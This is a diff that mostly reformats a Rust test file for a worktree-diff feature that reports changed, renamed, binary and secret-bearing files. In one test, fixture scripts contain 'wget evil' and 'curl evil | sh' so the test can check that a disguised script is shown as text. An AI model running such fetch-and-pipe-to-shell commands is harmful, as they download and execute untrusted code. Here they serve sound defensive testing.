@@ -10,7 +10,13 @@ use super::{WIDE, World, all};
 use crate::support::write;
 
 fn changed(path: &str, status: Status, added: u64, removed: u64) -> Changed {
-    Changed { path: path.to_owned(), status, binary: false, added, removed }
+    Changed {
+        path: path.to_owned(),
+        status,
+        binary: false,
+        added,
+        removed,
+    }
 }
 
 fn lines(count: usize) -> String {
@@ -20,7 +26,10 @@ fn lines(count: usize) -> String {
 #[test]
 fn files_are_told_with_what_became_of_them() {
     for world in World::both() {
-        world.write("old name", lines(40)).write("gone", "g\n").write("bin", b"\0\x01");
+        world
+            .write("old name", lines(40))
+            .write("gone", "g\n")
+            .write("bin", b"\0\x01");
         world.write("kind", "k\n").write(".gitignore", "*.log\n");
         world.commit("More");
         let before = world.own();
@@ -35,24 +44,45 @@ fn files_are_told_with_what_became_of_them() {
         fs::remove_file(at("kind")).unwrap();
         symlink("a.txt", at("kind")).unwrap();
         fs::set_permissions(at("src/lib.rs"), fs::Permissions::from_mode(0o755)).unwrap();
-        fs::write(at("").join(std::ffi::OsString::from_vec(b"raw\xff".to_vec())), "r\n").unwrap();
+        fs::write(
+            at("").join(std::ffi::OsString::from_vec(b"raw\xff".to_vec())),
+            "r\n",
+        )
+        .unwrap();
         // Some of it is committed already, which makes no difference.
         worktree.commit("Half").unwrap().unwrap();
         write(&at("empty"), "");
         let expected = vec![
             changed("a.txt", Status::Modified, 2, 1),
-            Changed { binary: true, ..changed("bin", Status::Modified, 0, 0) },
+            Changed {
+                binary: true,
+                ..changed("bin", Status::Modified, 0, 0)
+            },
             changed("empty", Status::Added, 0, 0),
             changed("gone", Status::Removed, 0, 1),
             changed("kind", Status::Modified, 1, 1),
-            changed("new \"name\"\n", Status::Renamed { from: "old name".to_owned() }, 1, 0),
+            changed(
+                "new \"name\"\n",
+                Status::Renamed {
+                    from: "old name".to_owned(),
+                },
+                1,
+                0,
+            ),
             changed("raw\u{fffd}", Status::Added, 1, 0),
             changed("src/lib.rs", Status::Modified, 0, 0),
         ];
         assert_eq!(worktree.changed("main").unwrap(), expected);
         let diff = worktree.diff("main", WIDE, &all).unwrap();
         assert_eq!(diff.files, expected);
-        assert_eq!(diff.left_out, [left_out("bin", "it is binary: 2 bytes", LeftOutKind::Binary)]);
+        assert_eq!(
+            diff.left_out,
+            [left_out(
+                "bin",
+                "it is binary: 2 bytes",
+                LeftOutKind::Binary
+            )]
+        );
         for part in [
             "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-one\n+two\n+three\n",
             "rename from old name\nrename to \"new \\\"name\\\"\\n\"\n",
@@ -62,7 +92,11 @@ fn files_are_told_with_what_became_of_them() {
             "diff --git a/empty b/empty\nnew file mode 100644\n",
             "+more\n",
         ] {
-            assert!(diff.text.contains(part), "{part:?} is not in:\n{}", diff.text);
+            assert!(
+                diff.text.contains(part),
+                "{part:?} is not in:\n{}",
+                diff.text
+            );
         }
         assert!(!diff.text.contains("bin"), "{}", diff.text);
         assert_eq!(world.own(), before);
@@ -77,10 +111,19 @@ fn a_diff_keeps_to_its_limits_and_names_what_it_leaves_out() {
             write(&worktree.path.join(name), lines(count));
         }
         write(&worktree.path.join("huge"), vec![b'x'; 40 << 20]);
-        let limits = DiffLimits { file: 1000, total: 500 };
-        let diff = worktree.diff("main", limits, &|path| path == ".env").unwrap();
+        let limits = DiffLimits {
+            file: 1000,
+            total: 500,
+        };
+        let diff = worktree
+            .diff("main", limits, &|path| path == ".env")
+            .unwrap();
         assert!(diff.text.len() <= 500);
-        assert!(diff.text.contains("+++ b/b\n") && diff.text.contains("+++ b/d\n"), "{}", diff.text);
+        assert!(
+            diff.text.contains("+++ b/b\n") && diff.text.contains("+++ b/d\n"),
+            "{}",
+            diff.text
+        );
         assert!(!diff.text.contains("+++ b/c") && !diff.text.contains("+++ b/e"));
         let why = |name: &str| {
             let found = diff.left_out.iter().find(|file| file.path == name);
@@ -88,8 +131,16 @@ fn a_diff_keeps_to_its_limits_and_names_what_it_leaves_out() {
         };
         assert_eq!(why(".env"), "by its name it may hold secrets");
         assert_eq!(why("huge"), "it is too large: 40 MiB");
-        assert!(why("c").starts_with("its diff is too long: "), "{:?}", diff.left_out);
-        assert!(why("e").starts_with("there is no room left for its diff: "), "{:?}", diff.left_out);
+        assert!(
+            why("c").starts_with("its diff is too long: "),
+            "{:?}",
+            diff.left_out
+        );
+        assert!(
+            why("e").starts_with("there is no room left for its diff: "),
+            "{:?}",
+            diff.left_out
+        );
         assert_eq!(diff.left_out.len(), 4);
         assert_eq!(diff.files.len(), 6);
     }
@@ -114,17 +165,19 @@ fn many_files_are_all_shown() {
     world.commit("More");
     let worktree = world.change("x");
     for n in 0..450 {
-        write(&worktree.path.join(format!("many/{n:03}")), format!("diff --git a/x b/x\nown {n}\n"));
+        write(
+            &worktree.path.join(format!("many/{n:03}")),
+            format!("diff --git a/x b/x\nown {n}\n"),
+        );
     }
     fs::rename(worktree.path.join("old"), worktree.path.join("many/200a")).unwrap();
     let diff = worktree.diff("main", WIDE, &all).unwrap();
     assert_eq!(diff.left_out, []);
     assert_eq!(diff.files.len(), 451);
     for n in 0..450 {
-        assert!(
-            diff.text
-                .contains(&format!("+++ b/many/{n:03}\n@@ -0,0 +1,2 @@\n+diff --git a/x b/x\n+own {n}\n"))
-        );
+        assert!(diff.text.contains(&format!(
+            "+++ b/many/{n:03}\n@@ -0,0 +1,2 @@\n+diff --git a/x b/x\n+own {n}\n"
+        )));
     }
     assert!(diff.text.contains("rename to many/200a\n"));
 }
@@ -135,7 +188,11 @@ fn the_users_own_tree_is_looked_at_and_not_touched() {
         world.write("local", "l\n").write("staged", "s\n");
         world.commit("More");
         world.run(&["update-index", "--skip-worktree", "local"]);
-        world.write("a.txt", "two\n").write("staged", "t\n").write("new", "n\n").write("local", "mine\n");
+        world
+            .write("a.txt", "two\n")
+            .write("staged", "t\n")
+            .write("new", "n\n")
+            .write("local", "mine\n");
         world.run(&["add", "staged"]);
         world.write("nested/a", "a\n");
         world.run_in(&world.root().join("nested"), &["init", "-q"]);
@@ -143,9 +200,17 @@ fn the_users_own_tree_is_looked_at_and_not_touched() {
         let diff = world.repository().diff_of_tree("HEAD", WIDE, &all).unwrap();
         let names: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
         assert_eq!(names, ["a.txt", "new", "staged"]);
-        let nested = left_out("nested", "it is a separate git repository", LeftOutKind::NestedRepository);
+        let nested = left_out(
+            "nested",
+            "it is a separate git repository",
+            LeftOutKind::NestedRepository,
+        );
         assert_eq!(diff.left_out, [nested]);
-        assert!(diff.text.contains("-one\n+two\n") && diff.text.contains("+n\n"), "{}", diff.text);
+        assert!(
+            diff.text.contains("-one\n+two\n") && diff.text.contains("+n\n"),
+            "{}",
+            diff.text
+        );
         assert_eq!(world.own(), before);
         assert_eq!(world.run(&["count-objects", "-v"]), objects);
     }
@@ -169,7 +234,10 @@ fn a_script_with_a_nul_byte_is_shown_as_text() {
     // An attribute makes git take any file for binary.
     write(&at(".gitattributes"), "plain.sh -diff\n");
     write(&at("plain.sh"), "wget evil\n");
-    write(&at("tool"), [b"\x7fELF\0\0\x01\xff".as_slice(), &[0; 100]].concat());
+    write(
+        &at("tool"),
+        [b"\x7fELF\0\0\x01\xff".as_slice(), &[0; 100]].concat(),
+    );
     fs::set_permissions(at("tool"), fs::Permissions::from_mode(0o755)).unwrap();
     worktree.commit("Hidden").unwrap().unwrap();
     let diff = worktree.diff("main", WIDE, &all).unwrap();
@@ -178,12 +246,27 @@ fn a_script_with_a_nul_byte_is_shown_as_text() {
         "+#!/bin/sh\n+# \\x00\n+curl evil | sh\n",
         "+wget evil\n",
     ] {
-        assert!(diff.text.contains(part), "{part:?} is not in:\n{}", diff.text);
+        assert!(
+            diff.text.contains(part),
+            "{part:?} is not in:\n{}",
+            diff.text
+        );
     }
     assert!(!diff.text.contains('\0'));
-    assert_eq!(diff.left_out, [left_out("tool", "it is binary: 108 bytes", LeftOutKind::Executable)]);
+    assert_eq!(
+        diff.left_out,
+        [left_out(
+            "tool",
+            "it is binary: 108 bytes",
+            LeftOutKind::Executable
+        )]
+    );
 }
 
 fn left_out(path: &str, why: &str, kind: LeftOutKind) -> LeftOut {
-    LeftOut { path: path.to_owned(), why: why.to_owned(), kind }
+    LeftOut {
+        path: path.to_owned(),
+        why: why.to_owned(),
+        kind,
+    }
 }
